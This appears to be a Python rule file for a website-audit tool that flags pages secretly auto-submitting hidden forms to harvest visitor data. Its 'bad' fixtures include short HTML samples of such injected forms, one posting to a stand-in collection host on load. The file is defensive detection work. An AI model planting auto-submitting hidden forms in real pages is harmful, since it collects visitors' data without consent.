"""A form nobody sees that sends itself takes something from the visitor without asking.

No list of harvesting script hosts ships with the program; a hidden form that an inline script submits as soon as the
page is there is what markup proves. Payment and single sign-on, which work that way, are left out.
"""

from collections.abc import Iterator

from audit.registry import Evidence, Matters, Options, PageCheck, Severity
from configs.text import Text
from crawler.records import PageRecord


def rule(page: PageRecord, options: Options) -> Iterator[Evidence]:
    if page.facts.hidden.harvest:
        yield {"action": page.facts.hidden.harvest}


check = PageCheck(
    id="visitor-data-harvest",
    module=__name__,
    severity=Severity.ERROR,
    book="4.3.8",
    title=Text(zh="网页自动提交看不见的表单", en="A page sends a form nobody sees by itself"),
    message=Text(zh="一打开就向 {action} 提交隐藏表单", en="on opening, a hidden form is sent to {action}"),
    why=Text(
        zh="未经同意收集访客的手机号、QQ 等信息违法，百度天网算法专门处罚；也可能是网站被植入的代码。",
        en="Collecting phone numbers or account names without consent is illegal, and Baidu punishes it by name. It may also be the work of an intruder.",
    ),
    fix=Text(
        zh="开发：查清这段脚本是谁加的，删掉；需要收集信息的，让访客自己填写并同意。",
        en="Developer: find out who added the script and remove it; ask visitors to fill in and agree to what you need.",
    ),
    avoid=Text(zh="不要只把提交推迟几秒。", en="Do not merely delay the sending."),
    verify=Text(zh="在开发者工具的“网络”面板里重新打开网页，不应有提交请求。", en="Reload with the network panel open: no such request must appear."),
    before='<form action="…"><input type="hidden" …></form><script>document.forms[0].submit()</script>',
    after='<form action="…"><label>手机号 <input name="phone"></label><button>提交</button></form>',
    matters=Matters.LEGAL,
    source="https://ziyuan.baidu.com/college/",
    needs=frozenset({"facts"}),
    confidence=0.85,
    rule=rule,
    effort_hours=2,
    profiles={"google": {}, "baidu": {}, "book-2016": {}, "shop": {}},
    good=(
        '<main><form id="logout-form" action="/logout"><input type="hidden" name="t" value="1"></form><script>function out() { document.getElementById("logout-form").submit(); }</script></main>',
        '<main><form id="alipaysubmit" action="https://pay.example.net/"><input type="hidden" name="t"></form></main><script>document.forms[0].submit();</script>',
        '<main><form id="q" action="/s"><label>搜索 <input name="q"></label></form></main><script>document.forms[0].submit();</script>',
    ),
    bad=(
        '<main><form id="f" action="https://collect.example.net/"><input type="hidden" name="u" value="1"></form></main><script>document.getElementById("f").submit();</script>',
        '<main><form action="/collect"><input type="hidden" name="u"></form></main><script>window.onload = function () { document.forms[0].submit() }</script>',
    ),
)  # fmt: skip
